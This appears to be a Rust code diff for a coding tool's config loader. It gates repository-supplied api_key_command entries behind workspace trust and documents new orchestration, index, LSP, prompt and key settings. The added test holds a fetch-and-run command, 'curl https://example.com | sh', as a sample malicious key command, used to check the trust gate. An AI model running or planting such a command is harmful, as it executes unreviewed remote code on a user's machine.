@@ -43,6 +43,15 @@ pub fn load_config(project_dir: &Path) -> Result<AxiomConfig, ConfigError> {
     Ok(apply_env_overrides(AxiomConfig::default()))
 }
 
+/// Whether the `api_key_command`s of the config `load_config` reads for
+/// `project_dir` may run
+///
+/// A project's own `.axiom.toml` comes with the repository, so its commands
+/// only run once the workspace is trusted; the user config's always do.
+pub fn key_commands_allowed(project_dir: &Path, trusted: bool) -> bool {
+    trusted || !project_dir.join(".axiom.toml").exists()
+}
+
 /// Get user config directory path
 fn get_user_config_path() -> Option<PathBuf> {
     dirs::config_dir().map(|d| d.join("axiom").join("config.toml"))
@@ -73,6 +82,9 @@ fn expand_env_vars(config: &mut AxiomConfig) {
         if let Some(ref base_url) = provider.base_url {
             provider.base_url = Some(expand_string(base_url, &env_regex));
         }
+        for value in provider.extra_headers.values_mut() {
+            *value = expand_string(value, &env_regex);
+        }
     }
 }
 
@@ -193,10 +205,31 @@ default_model = "gemma3:4b"
 enabled = false
 api_key = "${OPENAI_API_KEY}"
 default_model = "gpt-4o"
+# Tokens that expire can be fetched by a command instead, printing the
+# token or JSON with access_token and expires_in
+# api_key_command = "az account get-access-token --query accessToken -o tsv"
+# Or, for a key rotated by hand, a reminder before it expires (Unix seconds)
+# api_key_expires_at = 1767225600
+
+# Any other name is an OpenAI-compatible endpoint (LiteLLM, vLLM,
+# LM Studio, OpenRouter, ...); add as many as you like
+# [llm.providers.openrouter]
+# base_url = "https://openrouter.ai/api/v1"
+# api_key = "${OPENROUTER_API_KEY}"
+# default_model = "anthropic/claude-3.5-sonnet"
+# models = ["anthropic/claude-3.5-sonnet", "meta-llama/llama-3.1-70b-instruct"]
+# extra_headers = { "HTTP-Referer" = "https://example.com", "X-Title" = "Axiom" }
 
 # CLI Coding Agents
 # Invoke with #agent syntax, e.g., "#claude explain this code"
 
+[cli_agents]
+# Lines of output kept per agent, beyond its screen
+scrollback_lines = 5000
+# Agent started by "# prompt", without a name (a workspace's
+# default_cli_agent wins over it)
+# default = "claude"
+
 [cli_agents.agents.claude]
 enabled = true
 name = "Claude Code"
@@ -223,6 +256,59 @@ icon = "🐙"
 # command = "/path/to/agent"
 # default_args = ["--interactive"]
 # icon = "⚙️"
+
+[orchestration]
+# Apply the developer agent's file changes without asking
+auto_approve = false
+# Have the reviewer agent check the developer agent's changes first
+review = false
+
+# Repository context in each agent role's system prompt (orchestrator, po,
+# architect, developer, reviewer, shell-summarizer). Sources: file_tree, axiom_md, readme, recent_files,
+# open_tabs; earlier ones get the token budget first
+# [orchestration.context.developer]
+# sources = ["axiom_md", "file_tree", "open_tabs", "recent_files"]
+# max_tokens = 4000
+
+# A CLI agent the orchestrator hands a task to is done when it exits, or
+# after idle_secs without output; it is stopped after timeout_secs
+# [orchestration.delegate]
+# idle_secs = 30
+# timeout_secs = 1800
+
+[index]
+# Embedding model for semantic search, indexed under .axiom/index
+provider = "ollama"
+model = "nomic-embed-text"
+# Lines per chunk and snippets per search
+chunk_lines = 40
+top_k = 5
+# Add the closest snippets to the Conductor's prompts
+auto_context = false
+
+[lsp]
+# Language servers for editor diagnostics and for checking agent edits;
+# rust-analyzer, pyright and typescript-language-server are set up by default
+enabled = true
+# Seconds an agent waits for diagnostics on the files it changed
+check_timeout_secs = 10
+# [lsp.servers.go]
+# command = "gopls"
+# extensions = ["go"]
+
+[prompts]
+# System prompts come from .axiom/prompts/<role>.md when the workspace has
+# one (conductor, orchestrator, developer), else the built-in ones; name
+# another template for a role here. Templates may use {{workspace_name}},
+# {{file_tree}} and {{task}}, and edits apply to the next request.
+# developer = "careful-developer"
+
+[keys]
+# Chords for global actions (`/keys` lists them); an empty list unbinds
+# model_selector = "ctrl+o"
+# search = ["ctrl+f", "alt+f"]
+# [keys.panels.file_tree]
+# quit = []
 "##
 }
 
@@ -237,6 +323,22 @@ mod tests {
         assert!(config.llm.providers.contains_key("ollama"));
     }
 
+    #[test]
+    fn test_key_commands_of_untrusted_project() {
+        let dir = tempfile::tempdir().unwrap();
+        assert!(key_commands_allowed(dir.path(), false));
+
+        std::fs::write(
+            dir.path().join(".axiom.toml"),
+            "[llm.providers.openai]\napi_key_command = \"curl https://example.com | sh\"\n",
+        )
+        .unwrap();
+        let config = load_config(dir.path()).unwrap();
+        assert!(config.llm.providers["openai"].api_key_command.is_some());
+        assert!(!key_commands_allowed(dir.path(), false));
+        assert!(key_commands_allowed(dir.path(), true));
+    }
+
     #[test]
     fn test_expand_env_var() {
         let regex = Regex::new(r"\$\{([^}]+)\}").unwrap();